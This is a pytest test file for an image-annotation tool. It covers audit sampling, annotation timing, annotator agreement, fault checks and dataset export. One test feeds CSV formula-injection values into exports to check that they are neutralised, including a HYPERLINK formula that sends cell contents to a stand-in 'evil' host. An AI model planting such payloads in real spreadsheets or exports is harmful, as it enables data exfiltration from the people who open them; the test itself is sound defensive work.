"""From marks to a set: audits, time, agreement, disputes, faults, and what is written."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from eyespot.curate.annotate import agreement, auditing, candidates, export, queries
from eyespot.curate.annotate.annotation_store import AnnotationStore, AuditSample, Candidate
from eyespot.curate.annotate.auditing import Plan, draw
from eyespot.curate.annotate.candidates import learned_order
from eyespot.curate.annotate.export import unseen
from eyespot.curate.annotate.progress import seconds, standing
from eyespot.curate.annotate.queries import AnnotationQuery
from eyespot.gallery import filters
from eyespot.runs import inquire, read_qrels, read_run
from eyespot.search.collection import Collection
from eyespot.storage import sqlite
from eyespot.types import Judgement, NothingFound, UsageError
from tests.wording import raises
from tests.worlds.annotation import desk, gallery, vectors

YES, NO = "y", "n"


@pytest.fixture
def at(tmp_path: Path) -> Iterator[AnnotationStore]:
    """500 photos of which every fiftieth is relevant, and Ada who knows."""
    with desk(tmp_path, 500, category="Species", visible="yes", feasible="yes", of_interest="yes") as made:
        yield made


@pytest.fixture(scope="module")
def sixty(tmp_path_factory: pytest.TempPathFactory) -> Collection:
    """60 photos, of which ten are herons."""
    return Collection(gallery(tmp_path_factory.mktemp("sixty"), 60, 10))


def go_down(at: AnnotationStore, who: str, depth: int) -> None:
    at.mark("q", who, {str(n): YES if n % 50 == 0 else NO for n in range(depth)})


def audit(at: AnnotationStore, who: str, size: int = 100) -> auditing.Audited:
    drawn = draw(at, "q", who, plan=Plan(size, 1))
    at.mark("q", who, {photo.image: YES if int(photo.image) % 50 == 0 else NO for photo in drawn.photos})
    found = auditing.standing(at, "q", who)
    assert found is not None
    return found


# -- audits ---------------------------------------------------------------------------------------------------------


def test_an_audit_is_drawn_from_what_was_not_labelled_and_tells_nothing_while_it_is_under_way(
    at: AnnotationStore,
) -> None:
    go_down(at, "ada", 150)
    drawn = draw(at, "q", "ada", plan=Plan(100))
    at.mark("q", "ada", {drawn.photos[0].image: YES})
    assert drawn.rest == 350 and len(set(drawn.photos)) == 100
    assert min(int(photo.image) for photo in drawn.photos) >= 150
    assert auditing.standing(at, "q", "ada") == auditing.Audited(100, 1, 1)


def test_of_audits_drawn_at_the_same_moment_one_stands(at: AnnotationStore) -> None:
    """Twice nobody has drawn one yet, and both draw: what the second one keeps comes too late."""
    drawn = AuditSample(500, at.candidates("q")[:100], [])
    at.keep_audit("q", ["ada"], drawn, before=at.audits("q"), listed=0)
    with raises(UsageError):
        at.keep_audit("q", ["ada"], drawn._replace(rest=400), before=0, listed=0)
    with raises(UsageError):  # before the first is labelled nobody chooses between audits
        draw(at, "q", "ada", plan=Plan(100))
    assert (at.audits("q"), at.last_audit("q", "ada")) == (1, (1, drawn))


def test_what_is_labelled_after_the_audit_no_longer_remains(at: AnnotationStore) -> None:
    go_down(at, "ada", 150)
    audit(at, "ada")
    go_down(at, "ada", 500)
    found = auditing.standing(at, "q", "ada")
    assert found is not None and found.left == (0, 0, 0)
    with raises(NothingFound):
        draw(at, "q", "ada")


def test_what_is_listed_after_the_draw_lessens_nothing(at: AnnotationStore) -> None:
    go_down(at, "ada", 150)
    before = audit(at, "ada")
    at.extend("q", (Candidate(f"new {number}") for number in range(1000)))
    at.mark("q", "ada", {f"new {number}": YES if number < 50 else NO for number in range(1000)})
    found = auditing.standing(at, "q", "ada")
    assert before.left is not None and before.left.high > 0 and found == before


@pytest.mark.parametrize("grows", [False, True])
def test_photos_listed_after_the_draw_count_as_possibly_relevant_until_they_are_labelled(
    tmp_path: Path, grows: bool
) -> None:
    """Ten of 300 photos are relevant, then 90 come of which the audit says nothing, unless it drew from a gallery."""
    with desk(tmp_path, 300) as at:
        at.mark("q", "ada", {str(n): YES if n < 10 else NO for n in range(200)})
        drawn = draw(at, "q", "ada", plan=Plan(100, 1))
        at.mark("q", "ada", {photo.image: NO for photo in drawn.photos})
        if grows:
            at.let_grow("q")
        stands = [standing(at, "q", "ada")]
        at.extend("q", [Candidate(str(n), f"{n}.jpg") for n in range(300, 390)])
        stands.append(standing(at, "q", "ada"))
        at.mark("q", "ada", dict.fromkeys(map(str, range(300, 390)), NO))
        stands.append(standing(at, "q", "ada"))

    later = [one.audit.later for one in stands if one.audit is not None]
    assert later == ([0, 0, 0] if grows else [0, 90, 0])
    assert grows or [one.found_at_least for one in stands] == [1.0, 0.1, 1.0]


def test_nothing_is_unseen_of_a_list_that_is_labelled_to_its_end_whatever_an_audit_left_open(tmp_path: Path) -> None:
    """A hundred photos of 300 are listed; an audit of the rest finds two of 20; then all are listed, and labelled."""
    with desk(tmp_path, 100) as at:
        at.mark("q", "ada", {str(n): YES if n < 10 else NO for n in range(100)})
        drawn = [Candidate(str(n), f"{n}.jpg") for n in range(100, 300, 10)]
        at.keep_audit("q", ["ada"], AuditSample(200, drawn, list(map(str, range(100)))), before=0, listed=100)
        at.mark("q", "ada", {one.image: YES if number < 2 else NO for number, one in enumerate(drawn)})
        at.let_grow("q")
        before = standing(at, "q", "ada")
        at.extend("q", [Candidate(str(n), f"{n}.jpg") for n in range(100, 300)])
        at.let_grow("q", ended=True)
        at.mark("q", "ada", {str(n): NO for n in range(100, 300) if n % 10})
        after, entry = standing(at, "q", "ada"), export.labelled(at, "q")

    assert before.audit is not None and before.audit.left is not None and before.audit.left.high > 10
    assert after.exhausted and after.found_at_least == 1.0 and after.sure
    assert unseen(after).startswith("none; the audit found 2 of 20; at least 100% found")
    assert not [fault for fault in entry.faults if "perhaps" in fault]


def test_what_was_listed_before_the_draw_of_an_earlier_version_is_not_known(at: AnnotationStore) -> None:
    go_down(at, "ada", 150)
    before = audit(at, "ada")
    ledger = sqlite.connect(at.judgements.path, "DELETE FROM audit_lists")
    ledger.close()
    go_down(at, "ada", 500)
    assert auditing.standing(at, "q", "ada") == before


def test_a_list_that_grows_is_audited_in_the_whole_gallery(sixty: Collection, tmp_path: Path) -> None:
    with desk(tmp_path, 0) as at:
        candidates.list_nearest(at, "q", sixty, 20)
        at.mark("q", "ada", {photo.image: NO for photo in at.candidates("q")})
        drawn = draw(at, "q", "ada", sixty, Plan(15))
    assert (drawn.rest, len({photo.image for photo in drawn.photos} & set(drawn.seen))) == (40, 0)


# -- lists ----------------------------------------------------------------------------------------------------------


def test_a_list_at_its_end_goes_on_once_there_are_more_photos(sixty: Collection, tmp_path: Path) -> None:
    with desk(tmp_path, 0) as at:
        candidates.list_nearest(at, "q", Collection(gallery(tmp_path / "small", 10, 2)), 20)
        ended = at.goes_on("q")
        candidates.list_nearest(at, "q", sixty, 5)
        assert (ended, at.goes_on("q"), at.grows("q")) == (False, True, True)


def test_labels_list_all_their_photos_and_narrowed_by_them_a_list_is_not_too_easy(
    sixty: Collection, tmp_path: Path
) -> None:
    with desk(tmp_path, 0, visible="yes", feasible="yes", of_interest="yes") as at:
        new = candidates.list_labelled(at, "q", sixty, candidates.any_label("kind", ["heron", "none such"]))
        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
        assert new == 10 and export.labelled(at, "q").faults == []
        with raises(NothingFound):
            candidates.list_labelled(at, "q", sixty, filters.label("kind", "stork"))


def marks(times: list[float]) -> list[Judgement]:
    return [Judgement("q", str(n), "person:a", "p", None, at=at) for n, at in enumerate(times)]


# -- time -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("times", "openings", "spent"),
    [
        # 15 seconds for the four photos after a mark; the first one and the one after the pause count at their pace
        ([0.0, 2.0, 2.0, 5.0, 5000.0, 5010.0], [], 15 * 6 / 4),
        # five pages of 120 photos, 90 seconds each, then a night, then another page
        ([at for at in (90.0, 180.0, 270.0, 360.0, 450.0, 40_000.0) for _ in range(120)], [], 6 * 90),
        # one page alone: unknown without the opening, and a pause where the page was open overnight
        ([100.0] * 120, [], None),
        ([100.0] * 120, [10.0], 90),
        ([40_000.0] * 120, [10.0], None),
        ([], [10.0], 0),
        ([40_000.0] * 120, [10.0, 39_940.0], 60),
        # 10 s for the first photo, 4 and 6 for the next two, reload or not; 8 after the night
        ([10.0, 14.0, 20.0, 9008.0], [0.0, 12.0, 9000.0], 10 + 4 + 6 + 8),
    ],
    ids=["pauses", "pages", "no opening", "an opening", "overnight", "no mark", "opened again", "between marks"],
)
def test_pauses_are_not_paid_for(times: list[float], openings: list[float], spent: float | None) -> None:
    assert seconds(marks(times), openings) == pytest.approx(spent)


def test_the_standing_of_a_page_marked_at_once_has_its_time(at: AnnotationStore) -> None:
    at.open_page("q", "ada", 90.0)
    at.mark("q", "ada", {str(n): NO for n in range(20)})
    found = standing(at, "q", "ada")
    assert found.seconds == pytest.approx(90, abs=1) and found.as_json(36.0)["cost"] == pytest.approx(0.9, abs=0.02)
    assert at.openings("q", "bob") == []


# -- several people -------------------------------------------------------------------------------------------------


def test_two_people_are_compared_where_both_labelled(at: AnnotationStore) -> None:
    """Doubt and no are no dispute."""
    at.mark("q", "ada", {"0": YES, "1": YES, "2": NO, "3": NO})
    at.mark("q", "bob", {"1": YES, "2": YES, "3": "d", "4": NO})
    (overlap,) = agreement.overlaps(agreement.everybody(at, "q"))
    assert (overlap.photos, overlap[2:], overlap.agreed) == (3, (1, 0, 1, 1), pytest.approx(2 / 3))
    assert [one.marks for one in agreement.differences(at, "q") if one.word is None] == [{"ada": NO, "bob": YES}]


def test_agreement_beyond_chance_of_two(at: AnnotationStore) -> None:
    pytest.importorskip("eyespot.runs.agreement")
    at.mark("q", "ada", {str(n): YES if n < 5 else NO for n in range(10)})
    at.mark("q", "bob", {str(n): YES if n < 4 else NO for n in range(12)})
    found = agreement.coefficients(agreement.everybody(at, "q"))
    # They agree on 9 of 10, and by chance on 0.5 · 0.4 + 0.5 · 0.6 = 0.5 of them.
    assert found["cohen_kappa"].value == pytest.approx(0.8)


def test_a_tie_counts_as_no_until_it_is_settled_and_a_majority_as_it_says(at: AnnotationStore) -> None:
    """Whoever settles is no further annotator, and their word is out of date once all agree."""
    at.mark("q", "ada", {"0": YES, "1": YES})
    at.mark("q", "bob", {"0": NO, "1": NO})
    at.mark("q", "cy", {"1": YES})
    found = [agreement.labels(at, "q")]
    for mark in (YES, NO):
        agreement.settle(at, "q", "eve", "0", mark)
        found.append(agreement.labels(at, "q"))
    at.mark("q", "bob", {"0": YES})

    assert found == [{"0": False, "1": True}, {"0": True, "1": True}, {"0": False, "1": True}]
    assert list(agreement.everybody(at, "q")) == ["ada", "bob", "cy"]
    assert agreement.labels(at, "q") == {"0": True, "1": True}
    assert [one.image for one in agreement.differences(at, "q")] == ["1"]


def test_a_word_of_a_third_overrides_no_agreement(at: AnnotationStore) -> None:
    for who in ("ada", "bob"):
        at.mark("q", who, {"0": YES})
    agreement.settle(at, "q", "eve", "0", NO)
    with raises(UsageError):
        agreement.check_settling(at, "q", "cy", "0")
    assert agreement.labels(at, "q") == {"0": True}


# -- faults ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("marks", "faults"),
    [
        ({n: YES if n % 50 == 0 else NO for n in range(500)}, []),
        ({n: YES if n == 0 else NO for n in range(170)}, ["no audit of the rest"]),
        ({n: YES if n < 51 else NO for n in range(500)}, ["too easy: 51 of the first 100 are yes"]),
    ],
    ids=["whole", "not audited", "too easy"],
)
def test_what_is_to_be_mended(at: AnnotationStore, marks: dict[int, str], faults: list[str]) -> None:
    at.mark("q", "ada", {str(n): mark for n, mark in marks.items()})
    assert export.labelled(at, "q").faults == faults


def test_a_ranking_that_labels_were_added_to_may_be_too_easy(tmp_path: Path) -> None:
    collection = Collection(gallery(tmp_path, 120, 60))
    with desk(tmp_path, 0) as at:
        candidates.list_nearest(at, "q", collection, 110)
        candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron"]))
        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
        assert "too easy: 100 of the first 100 are yes" in export.labelled(at, "q").faults


# -- what is written ------------------------------------------------------------------------------------------------


def test_inquires_files_and_all_that_was_said_are_written(at: AnnotationStore, tmp_path: Path) -> None:
    """INQUIRE's code reads no column of the annotations but these three and counts every row as a match."""
    go_down(at, "ada", 120)
    at.mark("q", "bob", {"0": NO, "1": NO})
    out = tmp_path / "out"
    export.write(at, export.every(at), out)

    lines = (out / "annotations.csv").read_text().splitlines()
    assert lines == ["query_id,image_id,image_path", "q,50,50.jpg", "q,100,100.jpg"]
    found = inquire.read(out / "queries.csv", out / "annotations.csv")
    assert (found.queries["q"]["category"], found.qrels.relevant("q")) == ("Species", {"50", "100"})
    judged = [line.split(",") for line in (out / "labels.csv").read_text().splitlines()]
    assert judged[:2] == [["query_id", "image_id", "image_path", "relevant"], ["q", "0", "0.jpg", "0"]]
    assert [row[1] for row in judged if row[3] == "1"] == ["50", "100"] and len(judged) == 1 + 120
    assert (len(read_qrels(out / "qrels.json")["q"]), len(read_run(out / "candidates.json")["q"])) == (120, 500)
    text = (out / "datasheet.md").read_text()
    assert "| annotators | 2 (ada, bob) |" in text and "| labelled pairs | 120, of which 2 relevant |" in text


def test_only_queries_without_faults_are_taken(at: AnnotationStore) -> None:
    go_down(at, "ada", 120)
    with raises(NothingFound):
        export.flawless(export.every(at))


@pytest.mark.parametrize("place", ["before", "behind"])
def test_a_photo_keeps_its_place_though_another_query_does_not_know_it(tmp_path: Path, place: str) -> None:
    listed = {"before": "", "behind": "a.jpg"}
    with AnnotationStore(tmp_path / "ledger.sqlite") as at:
        for id in ("q", "r"):
            at.take_in([AnnotationQuery(id, f"a heron {id}", {})])
            at.extend(id, [Candidate("aa", listed[place] if id == "q" else "a.jpg" if place == "before" else "")])
            at.mark(id, "ada", {"aa": YES})
        export.write(at, export.every(at), tmp_path / "out")
    lines = (tmp_path / "out" / "annotations.csv").read_text().splitlines()
    assert lines[1:] == ["q,aa,a.jpg", "r,aa,a.jpg"]


def test_no_text_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
    wanted = AnnotationQuery("=1+1", '=HYPERLINK("http://evil/"&A1,"x")', {"category": "@SUM(1)"})
    with AnnotationStore(tmp_path / "ledger.sqlite") as at:
        at.take_in([wanted])
        at.extend("=1+1", [Candidate("-2", "-2+3.jpg"), Candidate("b", "\t=tab.jpg")])
        at.mark("=1+1", "ada", {"-2": YES, "b": NO})
        export.write(at, export.every(at), tmp_path / "out")
    names = [tmp_path / "out" / name for name in ("queries.csv", "annotations.csv", "labels.csv")]

    cells = [cell for name in names for row in csv.reader(name.read_text().splitlines()) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
    (back,) = queries.read(names[0])
    assert (back.id, back.text, back.facts["category"]) == (wanted.id, wanted.text, "@SUM(1)")
    assert inquire.read(names[0], names[2]).qrels.grades == {"=1+1": {"-2": 1, "b": 0}}


# -- the likely ones first ------------------------------------------------------------------------------------------


def test_before_both_kinds_were_seen_the_ranking_stays() -> None:
    for unsure in (False, True):
        order = learned_order(vectors(9, 3), [True, True, *[None] * 7], unsure)
        assert order.tolist() == [2, 3, 4, 5, 6, 7, 8]


def test_the_most_telling_photo_lies_between_a_yes_and_a_no() -> None:
    angles = np.radians([0, 90, 10, 44, 80])
    between = np.stack([np.cos(angles), np.sin(angles)], axis=1).astype(np.float32)
    assert learned_order(between, [True, False, None, None, None], unsure=True)[0] == 3
    assert learned_order(between, [True, False, None, None, None])[0] == 2
